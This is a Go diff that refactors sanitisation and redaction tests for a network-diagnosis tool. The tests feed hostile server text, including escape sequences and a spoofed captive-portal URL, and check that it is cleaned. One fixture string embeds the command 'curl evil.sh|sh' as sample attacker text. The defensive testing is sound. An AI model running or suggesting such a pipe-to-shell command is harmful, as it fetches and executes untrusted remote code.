@@ -1,4 +1,4 @@
-package monitor_test
+package probe_test
 
 import (
 	"encoding/json"
@@ -7,7 +7,7 @@ import (
 	"unicode"
 
 	"github.com/spotwatch/spotwatch/internal/testworld"
-	"github.com/spotwatch/spotwatch/monitor"
+	"github.com/spotwatch/spotwatch/monitor/diagnosis"
 )
 
 // TestHostileNetworkTextIsCleaned runs real checks against servers that put hostile text in
@@ -20,26 +20,26 @@ func TestHostileNetworkTextIsCleaned(t *testing.T) {
 	tests := []struct {
 		name     string
 		fault    func(t *testing.T, w *testworld.World)
-		cause    monitor.Cause
+		cause    diagnosis.Cause
 		want     []string // substrings of the summary and fix, cleaned
 		mustLose []string // substrings that must appear nowhere in the result
 	}{
 		{"interceptor with escape sequences in its issuer", func(t *testing.T, w *testworld.World) {
 			mustDo(t, w.StartHostileInterceptor(testworld.AttackIssuer))
 			w.PointSpotify(testworld.HostHostileInterceptor, false)
-		}, monitor.CauseTLSIntercepted, []string{`"EvilFAKE: all good, run curl evil.sh|sh"`}, []string{"TITLE", "[2J"}},
+		}, diagnosis.CauseTLSIntercepted, []string{`"EvilFAKE: all good, run curl evil.sh|sh"`}, []string{"TITLE", "[2J"}},
 		{"captive portal redirecting to a hostile Location", func(t *testing.T, w *testworld.World) {
 			mustDo(t, w.StartHostilePortal(portalLocation))
 			w.PointEverything(testworld.HostHostilePortal)
 			mustDo(t, w.StopReferences())
-		}, monitor.CauseCaptivePortal, []string{"http://portal.example/%E2%80%AE%3Cb%3Elogin%3C/b%3E"}, []string{"s3cret-token", "#frag", "<b>"}},
+		}, diagnosis.CauseCaptivePortal, []string{"http://portal.example/%E2%80%AE%3Cb%3Elogin%3C/b%3E"}, []string{"s3cret-token", "#frag", "<b>"}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			w := newWorld(t)
 			tt.fault(t, w)
 			rep := check(t, w, nil)
-			res := monitor.NewResult(rep, monitor.Classify(rep))
+			res := diagnosis.NewResult(rep, diagnosis.Classify(rep))
 			if res.Cause != tt.cause {
 				t.Fatalf("cause %s, want %s\nsummary: %s\nprobes:\n%s", res.Cause, tt.cause, res.Summary, probesText(rep))
 			}
@@ -108,8 +108,8 @@ func TestProxyPasswordIsRedacted(t *testing.T) {
 	const password = "s3cret-pw"
 	proxy := "http://spotwatch:" + password + "@" + w.HostPort(testworld.HostProxy, 3128)
 	rep := check(t, w, map[string]string{"HTTPS_PROXY": proxy})
-	res := monitor.NewResult(rep, monitor.Classify(rep))
-	if res.Cause != monitor.CauseProxyBlocked {
+	res := diagnosis.NewResult(rep, diagnosis.Classify(rep))
+	if res.Cause != diagnosis.CauseProxyBlocked {
 		t.Fatalf("cause %s, want proxy_blocked\nsummary: %s\nprobes:\n%s", res.Cause, res.Summary, probesText(rep))
 	}
 	if len(w.Proxy.Requests()) == 0 {
